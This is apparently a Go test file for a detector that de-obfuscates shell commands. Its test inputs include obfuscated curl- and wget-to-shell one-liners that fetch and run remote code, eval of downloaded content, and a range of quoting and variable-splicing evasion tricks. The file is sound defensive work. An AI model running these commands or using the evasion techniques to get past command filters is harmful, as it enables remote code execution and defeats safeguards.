package detect

import (
	"strings"
	"testing"
)

func TestPlainly(t *testing.T) {
	for _, c := range []struct{ in, want, broken string }{
		{`c''url -s http://203.0.113.9/x | b""ash`, `curl -s http://203.0.113.9/x | bash`, `c''url b""ash`},
		{`cu"r"l -s http://203.0.113.9/x|s'h'`, `curl -s http://203.0.113.9/x|sh`, `cu"r"l s'h'`},
		{`c\url${IFS}-s${IFS}http://203.0.113.9/x|ba\sh`, `curl -s http://203.0.113.9/x|bash`, `c\url ba\sh`},
		{`wget$IFS$9-qO-$IFS-http://a/b`, `wget -qO- -http://a/b`, ``},
		{`$'\x63\165rl' http://a/b`, `curl http://a/b`, `$'\x63\165rl'`},
		{`/usr/bin/c$@url http://a/b`, `/usr/bin/curl http://a/b`, `/usr/bin/c$@url`},
		{`{curl,-s,http://203.0.113.9/x}|sh`, `curl -s http://203.0.113.9/x|sh`, ``},
		{`a=cu;b=rl;$a$b http://a/b`, `a=cu;b=rl;curl http://a/b`, ``},
		{`x=$(curl -s http://203.0.113.9/x); eval "$x"`, `x=$(curl -s http://203.0.113.9/x); eval "$(curl -s http://203.0.113.9/x)"`, ``},
		{`f() { $a$b http://a/b; }; a=cu; b=rl; f`, `f() { curl http://a/b; }; a=cu; b=rl; f`, ``},
		{strings.Repeat("y=1;", 100) + `a=cu;b=rl;$a$b http://a/b`, strings.Repeat("y=1;", 100) + `a=cu;b=rl;curl http://a/b`, ``},
		// A name holds what it was set to last, and what a loop gives is not known.
		{`for f in *.sh; do sh $f; done; f=$(curl http://10.0.0.1/up); echo "$f"`, `for f in *.sh; do sh $f; done; f=$(curl http://10.0.0.1/up); echo "$(curl http://10.0.0.1/up)"`, ``},
		{`f=a.sh; sh $f; f=$(curl http://10.0.0.1/up)`, `f=a.sh; sh a.sh; f=$(curl http://10.0.0.1/up)`, ``},
		{`f=$(curl http://10.0.0.1/up); while read -r f; do sh $f; done <list`, `f=$(curl http://10.0.0.1/up); while read -r f; do sh $f; done <list`, ``},
		// An owner's ways of writing say nothing.
		{`"curl" -s 'http://a/b'`, `curl -s http://a/b`, ``},
		{`\curl -s http://a/b`, `curl -s http://a/b`, ``},
		{`curl -H "Accept: text/plain" -d 'a|sh' http://a/b`, `curl -H "Accept: text/plain" -d 'a|sh' http://a/b`, ``},
		{`sed -e 's/\bsh\b/x/' $1 "$@"`, `sed -e 's/\bsh\b/x/' $1 "$@"`, ``},
		{`printf 'a\tb\n' {a,b,c}`, `printf 'a\tb\n' {a,b,c}`, ``},
		{`awk '{print $1}' f`, `awk '{print $1}' f`, ``},
	} {
		got, broken := plainly(c.in)
		if got != c.want || strings.Join(broken, " ") != c.broken {
			t.Errorf("%s\n  gives %s, broken %q\n  want  %s, broken %q", c.in, got, broken, c.want, c.broken)
		}
	}
}

// A text that doubles itself at each name must not grow without end.
func TestPlainlyBounded(t *testing.T) {
	text := `a="$b$b$b$b$b$b$b$b"; b="$c$c$c$c$c$c$c$c$c$c"; c="` + strings.Repeat("x", 1000) + `"; eval "` + strings.Repeat("$a", 1000) + `"`
	if got, _ := plainly(text); len(got) > maxSpelled {
		t.Errorf("%d bytes of %d", len(got), len(text))
	}
}

func FuzzPlainly(f *testing.F) {
	f.Add(`c''url${IFS}-s $'\x63' {curl,a} a=b;$a "$x"`)
	f.Fuzz(func(t *testing.T, s string) {
		s = s[:min(len(s), 4096)]
		got, broken := plainly(s)
		if len(got) > max(len(s), maxSpelled) {
			t.Errorf("%d bytes become %d", len(s), len(got))
		}
		for _, w := range broken {
			if got == s {
				t.Errorf("%q is said to be broken up, but nothing changed", w)
			}
		}
	})
}
